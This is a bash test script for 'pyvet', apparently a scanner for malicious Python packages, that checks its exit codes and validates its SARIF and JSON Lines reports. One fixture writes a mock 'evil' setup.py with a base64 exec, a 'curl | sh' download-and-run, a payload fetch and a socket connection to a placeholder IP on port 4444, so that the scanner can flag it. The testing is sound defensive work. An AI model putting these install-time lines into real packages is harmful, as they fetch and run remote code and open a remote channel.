#!/usr/bin/env bash
# Machine-facing contracts (issue 12.5): one exit-status convention for every command
# (experiments/commands.h: 0 ok, 1 malicious, 2 usage/configuration, 3 unreadable packages,
# 4 internal/IO), and scan's SARIF and JSON Lines validated against their schemas with Debian's
# python3-jsonschema (draft-04): the official SARIF 2.1.0 schema and pyvet's own
# docs/schemas/scan-jsonl-1.schema.json.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-features.sh"
PY=/usr/bin/python3
DOM="--domains tests/data/top-domains-mini.csv"
FX=$TMP/fx
bash tests/data/make_fixtures.sh "$FX" basic >/dev/null 2>&1
check "fixtures built" test -s "$FX/demo.tar.gz"

# st WANT DESCRIPTION CMD...: the exit status of pyvet CMD is WANT
st() {
	local want=$1 d=$2; shift 2
	"$PYVET" "$@" >"$TMP/st.out" 2>"$TMP/st.err"
	local rc=$?
	if [ "$rc" -eq "$want" ]; then ok "$d: exit $want"; else not_ok "$d: exit $rc, want $want: $(head -c 200 "$TMP/st.err")"; fi
}
FULL=
[ -w /dev/full ] && FULL=/dev/full

# ---- 2: usage and configuration, for every command ----
for c in ls meta check-corpus split baseline extract cv train predict descriptive scan reproduce; do
	st 2 "$c --no-such-option" $c --no-such-option x
done
st 2 "no command" 
st 2 "unknown command" frobnicate
st 2 "check-corpus: missing manifest" check-corpus --manifest "$TMP/none.csv" --corpus "$FX"
st 2 "extract: missing manifest" extract --manifest "$TMP/none.csv" --out "$TMP/x" $DOM
st 2 "cv: missing extraction" cv --features "$TMP/none" --learner dt --quiet --out "$TMP/cv.csv"
st 2 "train: missing extraction" train --features "$TMP/none" --learner nb --out "$TMP/m"
st 2 "predict: missing model" predict --model "$TMP/none.model" --features "$TMP/none"
st 2 "descriptive: missing extraction" descriptive --features "$TMP/none" --out "$TMP/d.csv"
st 2 "split: missing manifest" split --manifest "$TMP/none.csv" --name paper --out "$TMP/s/m.csv"
st 2 "scan: missing model" scan $DOM --model "$TMP/none.model" "$FX/demo.tar.gz"
st 2 "scan: --out in a missing directory" scan --no-model $DOM --out "$TMP/no/dir/r.txt" "$FX/demo.tar.gz"
st 2 "reproduce: corpus without manifest" reproduce --corpus "$TMP" --out "$TMP/r" --quick

# ---- 0 and 3 ----
st 0 "ls: a package" ls "$FX/demo.tar.gz"
st 3 "ls: an unreadable package" ls "$FX/truncated.tar.gz"
st 3 "meta: an unreadable package" meta "$FX/notes.tar.gz"
st 0 "scan: a clean batch" scan --no-model $DOM "$FX/demo.tar.gz" "$FX/demo.zip"
st 3 "scan: a batch with an unreadable package" scan --no-model $DOM "$FX/demo.tar.gz" "$FX/truncated.tar.gz"
{ echo "id,label,path"; echo "a,benign,demo.tar.gz"; echo "b,benign,truncated.tar.gz"; } >"$FX/m.csv"
{ echo "id,label,path"; echo "a,benign,demo.tar.gz"; echo "c,malicious,demo.zip"; } >"$FX/ok.csv"
st 3 "check-corpus: one package unreadable" check-corpus --manifest "$FX/m.csv" --corpus "$FX"
st 0 "check-corpus: every package read" check-corpus --manifest "$FX/ok.csv" --corpus "$FX"
st 3 "extract: one package unreadable" extract --manifest "$FX/m.csv" --out "$TMP/x3" $DOM --quiet
st 0 "extract: every package extracted" extract --manifest "$FX/ok.csv" --out "$TMP/x0" $DOM --quiet

# ---- 1: malicious verdicts (scan; predict only with --fail-on-malicious) ----
make_features "$TMP/syn" 40 40
st 0 "train a synthetic model" train --features "$TMP/syn" --set T+MCF --learner rf --seed 3 --out "$TMP/syn.model"
st 0 "predict: malicious rows but no --fail-on-malicious" predict --model "$TMP/syn.model" --features "$TMP/syn"
st 1 "predict --fail-on-malicious: malicious rows" predict --model "$TMP/syn.model" --features "$TMP/syn" --fail-on-malicious
grep -v '^m' "$TMP/syn/tokens.tsv" >"$TMP/ben.tsv"
mkdir -p "$TMP/ben" && { head -1 "$TMP/syn/features.csv"; grep '^b' "$TMP/syn/features.csv"; } >"$TMP/ben/features.csv" && cp "$TMP/ben.tsv" "$TMP/ben/tokens.tsv"
"$PYVET" predict --model "$TMP/syn.model" --features "$TMP/ben" >"$TMP/ben.pred" 2>/dev/null
if grep -q ',malicious$' "$TMP/ben.pred"; then
	skip "predict --fail-on-malicious on clean rows: some benign rows are flagged by this model"
else
	st 0 "predict --fail-on-malicious: nothing flagged" predict --model "$TMP/syn.model" --features "$TMP/ben" --fail-on-malicious
fi
S=$TMP/evil-0.1
mkdir -p "$S"
printf 'Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n' >"$S/PKG-INFO"
cat >"$S/setup.py" <<'EOF'
import os, socket, subprocess, base64
from urllib.request import urlopen
exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
subprocess.Popen(["sh", "-c", "curl http://203.0.113.9/x | sh"])
urlopen("http://203.0.113.9/payload").read()
socket.socket().connect(("203.0.113.9", 4444))
EOF
st 1 "scan: a malicious verdict" scan $DOM --model "$TMP/syn.model" "$S"
st 1 "scan: malicious and unreadable: malicious wins" scan $DOM --model "$TMP/syn.model" "$S" "$FX/truncated.tar.gz"

# ---- 4: write errors ----
if [ -n "$FULL" ]; then
	"$PYVET" ls "$FX/demo.tar.gz" >/dev/full 2>/dev/null
	check "ls to /dev/full: exit 4" test $? -eq 4
	"$PYVET" meta "$FX/demo.tar.gz" >/dev/full 2>/dev/null
	check "meta to /dev/full: exit 4" test $? -eq 4
	"$PYVET" scan --no-model $DOM "$FX/demo.tar.gz" >/dev/full 2>/dev/null
	check "scan to /dev/full: exit 4" test $? -eq 4
	"$PYVET" scan $DOM --model "$TMP/syn.model" "$S" >/dev/full 2>/dev/null
	check "scan to /dev/full, malicious: exit 4 (the report is lost)" test $? -eq 4
	"$PYVET" check-corpus --manifest "$FX/ok.csv" --corpus "$FX" >/dev/full 2>/dev/null
	check "check-corpus to /dev/full: exit 4" test $? -eq 4
	"$PYVET" predict --model "$TMP/syn.model" --features "$TMP/syn" >/dev/full 2>/dev/null
	check "predict to /dev/full: exit 4" test $? -eq 4
	"$PYVET" --version >/dev/full 2>/dev/null
	check "--version to /dev/full: exit 4" test $? -eq 4
else
	skip "/dev/full missing: write errors not tested"
fi

# ---- schemas ----
if ! "$PY" -c 'import jsonschema' 2>/dev/null; then
	skip "python3-jsonschema missing (make deps): SARIF and JSON Lines not validated"
	finish
	exit
fi
V() { "$PY" scripts/check/validate_json.py "$@" >"$TMP/v.out" 2>&1; }
SARIF=docs/schemas/sarif-schema-2.1.0.json
JSONL=docs/schemas/scan-jsonl-1.schema.json
check "the copied SARIF schema is the official file (sha256 as in docs/schemas/README.md)" \
	test "$(sha256sum "$SARIF" | cut -d' ' -f1)" = c3b4bb2d6093897483348925aaa73af03b3e3f4bd4ca38cef26dcb4212a2682e
n=0
for args in "--no-model $FX/demo.tar.gz $FX/demo-1.0-py3-none-any.whl $FX/python3-demo_1.0-1_all.deb $FX/truncated.tar.gz" \
	"--model $TMP/syn.model $S tests/data/demo-1.0" "--model $TMP/syn.model $FX/notes.tar.gz" \
	"--no-model $FX/truncated.tar.gz"; do
	n=$((n + 1))
	# shellcheck disable=SC2086
	"$PYVET" scan $DOM --format sarif $args >"$TMP/s$n.sarif" 2>/dev/null
	V "$SARIF" "$TMP/s$n.sarif"
	check "SARIF case $n validates against the SARIF 2.1.0 schema$(head -c 400 "$TMP/v.out" | tr '\n' ' ')" test $? -eq 0
	# shellcheck disable=SC2086
	"$PYVET" scan $DOM --format json $args >"$TMP/s$n.jsonl" 2>/dev/null
	V "$JSONL" "$TMP/s$n.jsonl" --lines
	check "JSON Lines case $n validates against scan-jsonl-1$(head -c 400 "$TMP/v.out" | tr '\n' ' ')" test $? -eq 0
done
# the validators can fail: a broken SARIF and a broken line are rejected
"$PY" -c '
import json, sys
d = json.load(open(sys.argv[1])); d["runs"][0]["results"][0]["level"] = "fatal"; d["version"] = "2.0"
json.dump(d, open(sys.argv[2], "w"))
L = [json.loads(x) for x in open(sys.argv[3])]; L[0]["status"] = "fine"; del L[0]["evidence"]
open(sys.argv[4], "w").write("\n".join(json.dumps(x) for x in L) + "\n")' \
	"$TMP/s2.sarif" "$TMP/bad.sarif" "$TMP/s2.jsonl" "$TMP/bad.jsonl"
V "$SARIF" "$TMP/bad.sarif"
check "a SARIF log with level 'fatal' and version 2.0 is rejected" test $? -eq 1
V "$JSONL" "$TMP/bad.jsonl" --lines
check "a JSON line without evidence and with status 'fine' is rejected" test $? -eq 1
finish
